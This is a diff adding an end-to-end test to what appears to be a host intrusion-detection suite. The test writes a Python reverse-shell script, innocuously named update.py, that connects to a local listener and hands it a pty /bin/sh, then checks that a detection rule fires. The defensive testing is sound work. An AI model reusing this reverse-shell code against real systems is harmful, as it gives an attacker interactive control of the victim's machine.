@@ -248,6 +248,19 @@ describe('detection end to end (root, real driver, default rule pack)', { skip: 
     assert.match(alert.message, /by \/usr\/bin\/perl/);
   });
 
+  it('a Python script that connects out and hands a pty shell to the connection raises an alert, though no command line says so', async () => {
+    const since = new Date().toISOString();
+    const script = path.join(mkdtempSync(path.join(dir, 'pty-')), 'update.py');
+    writeFileSync(
+      script,
+      ['import os, pty, socket, sys', 's = socket.create_connection(("127.0.0.1", int(sys.argv[1])))', 'for fd in (0, 1, 2):', '    os.dup2(s.fileno(), fd)', 'pty.spawn("/bin/sh")', ''].join('\n'),
+    );
+    await withShellListener((port) => `/usr/bin/python3 ${script} ${port}`);
+    const alert = await waitForAlert('interpreter_connection_then_interactive_shell', since, (a) => a.rule.id === 'interpreter_connection_then_interactive_shell' && mentions(a, '/bin/sh'));
+    assert.equal(alert.rule.severity, 'medium');
+    assert.match(alert.message, /started by python3[.0-9]* \(pid \d+\) after it connected out/);
+  });
+
   it('a process named auditd killed by SIGKILL raises an alert', async () => {
     const since = new Date().toISOString();
     // A program called auditd (a copy of sleep): the exit event carries its comm and exit code.
